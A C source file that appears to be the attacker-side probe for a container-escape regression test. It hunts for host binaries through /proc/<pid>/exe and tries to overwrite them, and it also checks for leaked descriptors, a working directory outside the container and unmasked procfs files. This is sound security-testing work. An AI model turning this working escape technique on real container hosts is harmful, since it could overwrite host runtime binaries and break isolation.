/*
 * The hostile program of test_cve.py, run inside a container.
 *
 *	watch SECONDS	looks for processes that run a program which is not in /bin, holds their /proc/<pid>/exe, and tries
 *			to open that for writing, again and again; on success it overwrites its start. Findings go to /report.
 *	fds		prints the open descriptors, but for the one it reads them by
 *	cwd		prints what the kernel calls the working directory, and host-marker if it is in it or above
 *	masks DIR...	OPEN when a directory is a procfs whose interrupts or uptime is not masked
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/magic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/vfs.h>
#include <time.h>
#include <unistd.h>

enum { HELD_MAX = 64 };

static struct {
	int fd;
	dev_t dev;
	ino_t ino;
	int done;
} held[HELD_MAX];
static int held_n;
static int report = -1;

static void say(const char *what, const char *name)
{
	dprintf(report, "%s %s\n", what, name);
}

/* Whether it is one of the container's own programs, all in /bin. */
static int is_own(const struct stat *st)
{
	DIR *bin = opendir("/bin");
	struct dirent *d;
	int own = 0;

	while (bin && !own && (d = readdir(bin)))
		own = d->d_ino == st->st_ino;
	if (bin)
		closedir(bin);
	return own;
}

/* A path descriptor does not keep the file busy. */
static void hold(const char *exe)
{
	int fd = open(exe, O_PATH | O_CLOEXEC);
	struct stat st;

	if (fd < 0 || fstat(fd, &st) < 0 || is_own(&st)) {
		close(fd);
		return;
	}
	for (int i = 0; i < held_n; i++)
		if (held[i].ino == st.st_ino && held[i].dev == st.st_dev) {
			close(fd);
			return;
		}
	if (held_n == HELD_MAX) {
		close(fd);
		return;
	}
	held[held_n].fd = fd;
	held[held_n].dev = st.st_dev;
	held[held_n++].ino = st.st_ino;
	say("HELD", exe);
}

static void try_to_write(void)
{
	char name[64];

	for (int i = 0; i < held_n; i++) {
		if (held[i].done)
			continue;
		snprintf(name, sizeof(name), "/proc/self/fd/%d", held[i].fd);
		int fd = open(name, O_WRONLY | O_CLOEXEC);

		if (fd < 0)
			continue;
		/* A sealed file in memory opens, and refuses the write. */
		if (write(fd, "#!overwritten\n", 14) == 14)
			say("WRITTEN", name);
		held[i].done = 1;
		close(fd);
	}
}

static int watch(int seconds)
{
	time_t end = time(NULL) + seconds;
	char exe[300];

	report = open("/report", O_WRONLY | O_CREAT | O_APPEND, 0644);
	while (time(NULL) < end) {
		DIR *proc = opendir("/proc");
		struct dirent *d;

		while (proc && (d = readdir(proc))) {
			if (d->d_name[0] < '0' || d->d_name[0] > '9' ||
			    strtol(d->d_name, NULL, 10) == getpid())
				continue;
			snprintf(exe, sizeof(exe), "/proc/%s/exe", d->d_name);
			hold(exe);
		}
		if (proc)
			closedir(proc);
		try_to_write();
	}
	return 0;
}

static int fds(void)
{
	DIR *dir = opendir("/proc/self/fd");
	struct dirent *d;

	while (dir && (d = readdir(dir)))
		if (d->d_name[0] != '.' && strtol(d->d_name, NULL, 10) != dirfd(dir))
			puts(d->d_name);
	return 0;
}

static int cwd(void)
{
	static const char *const names[] = { "host-marker", "../host-marker", "../../host-marker" };
	char where[4096], text[64] = "";

	if (syscall(SYS_getcwd, where, sizeof(where)) < 0)
		return 2;
	puts(where);
	for (int i = 0; i < 3; i++) {
		int fd = open(names[i], O_RDONLY);

		if (fd >= 0 && read(fd, text, sizeof(text) - 1) > 0)
			puts(text);
	}
	return 0;
}

static int masks(char **dirs)
{
	for (; *dirs; dirs++) {
		static const char *const files[] = { "interrupts", "uptime" };
		struct statfs fs;
		struct stat st;
		char path[300];

		if (statfs(*dirs, &fs) < 0 || fs.f_type != PROC_SUPER_MAGIC)
			continue;
		for (int i = 0; i < 2; i++) {
			snprintf(path, sizeof(path), "%s/%s", *dirs, files[i]);
			if (stat(path, &st) == 0 && st.st_rdev != makedev(1, 3))
				printf("OPEN %s\n", path);
		}
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "watch"))
		return watch((int)strtol(argv[2], NULL, 10));
	if (argc == 2 && !strcmp(argv[1], "fds"))
		return fds();
	if (argc == 2 && !strcmp(argv[1], "cwd"))
		return cwd();
	if (argc >= 3 && !strcmp(argv[1], "masks"))
		return masks(argv + 2);
	return 3;
}
